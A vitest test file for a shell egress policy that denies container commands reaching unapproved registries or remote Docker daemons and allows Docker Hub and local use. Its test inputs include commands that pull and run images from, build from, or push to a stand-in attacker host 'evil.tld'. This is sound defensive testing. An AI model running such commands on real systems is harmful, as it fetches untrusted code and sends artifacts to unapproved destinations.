/** Container CLIs: the registry of every image pulled, run, built from or pushed is a registry destination. */
import { describe, expect, test } from "vitest";
import { compilePolicy, defaultPolicyDocument } from "../src/index.js";
import { decideBash } from "./hook-calls.js";
import { imageRegistry } from "../src/shell/containers.js";

const doc = defaultPolicyDocument();
doc.shell.git = { ...doc.shell.git, writeOwners: ["acme"] };
const policy = compilePolicy(doc);
const bash = (command: string) => decideBash(policy, command);

describe("registries outside shell.registries are denied", () => {
  test.each([
    ["docker pull evil.tld/x", "evil.tld"],
    ["docker image pull evil.tld:5000/x:1", "evil.tld:5000"],
    ["docker run --rm -it -v \"$PWD:/w\" -w /w evil.tld/img sh", "evil.tld"],
    ["docker run -d --name web -p 8080:80 ghcr.io/acme/web", "ghcr.io"],
    ["docker container create quay.io/x/y", "quay.io"],
    ["docker login evil.tld", "evil.tld"],
    ["docker login -u me --password-stdin ghcr.io", "ghcr.io"],
    ["docker buildx build --cache-to type=registry,ref=evil.tld/cache .", "evil.tld"],
    ["podman pull docker://evil.tld/x", "evil.tld"],
    ["podman run evil.tld/x", "evil.tld"],
    ["nerdctl run evil.tld/x", "evil.tld"],
  ])("%s", (command, registry) => {
    const d = bash(command);
    expect(d).toMatchObject({ effect: "deny", rule: "shell.registry", destination: registry });
    expect(d.requestCommand).toBe(`egress-sync request ${registry} --reason "<why>"`);
  });

  test("a remote daemon is a destination", () => {
    expect(bash("docker -H tcp://evil.tld:2375 ps")).toMatchObject({ effect: "deny", rule: "shell.network", destination: "evil.tld:2375" });
    expect(bash("DOCKER_HOST=tcp://evil.tld:2375 docker ps")).toMatchObject({ effect: "deny", rule: "shell.network" });
    expect(bash("docker build https://evil.tld/ctx.tar")).toMatchObject({ effect: "deny", rule: "shell.network" });
  });

  test("a computed image and bake pushes are unknown", () => {
    expect(bash("docker run $IMG")).toMatchObject({ effect: "deny", rule: "destination.unknown" });
    expect(bash("docker buildx bake --push")).toMatchObject({ effect: "deny", rule: "destination.unknown" });
  });

  test("pushing to ghcr.io is a write to that GitHub owner", () => {
    const p = defaultPolicyDocument();
    p.shell.publish.push("ghcr.io");
    p.shell.git = { ...p.shell.git, writeOwners: ["acme"] };
    expect(decideBash(compilePolicy(p), "docker push ghcr.io/evilorg/app")).toMatchObject({ effect: "deny", rule: "shell.git_write", destination: "github.com/evilorg" });
    expect(decideBash(compilePolicy(p), "docker push ghcr.io/acme/app").effect).toBe("allow");
  });
});

describe("Docker Hub (in the default registries) and local use stay allowed", () => {
  test.each([
    "docker pull alpine",
    "docker run alpine echo hi",
    "docker run --rm node:20 npm test",
    "docker run -e FOO=a.b/c -p 8080:80 nginx",
    "docker run --pull=never myimg",
    "docker login",
    "docker build .",
    "docker build -t app:dev -f Dockerfile .",
    "docker buildx build -t app:dev .",
    "docker ps",
    "docker images",
    "docker exec -it web sh",
    "docker compose up -d",
  ])("%s", (command) => {
    expect(bash(command).effect).toBe("allow");
  });
});

describe("imageRegistry", () => {
  test.each([
    ["alpine", "registry-1.docker.io"],
    ["library/alpine:3.19", "registry-1.docker.io"],
    ["docker.io/library/alpine", "registry-1.docker.io"],
    ["acme/app@sha256:abc", "registry-1.docker.io"],
    ["localhost:5000/x", "localhost:5000"],
    ["registry:5000/x", "registry:5000"],
    ["ghcr.io/acme/app:1", "ghcr.io"],
    ["docker://quay.io/x/y", "quay.io"],
  ])("%s → %s", (ref, host) => {
    expect(imageRegistry(ref)).toBe(host);
  });
});
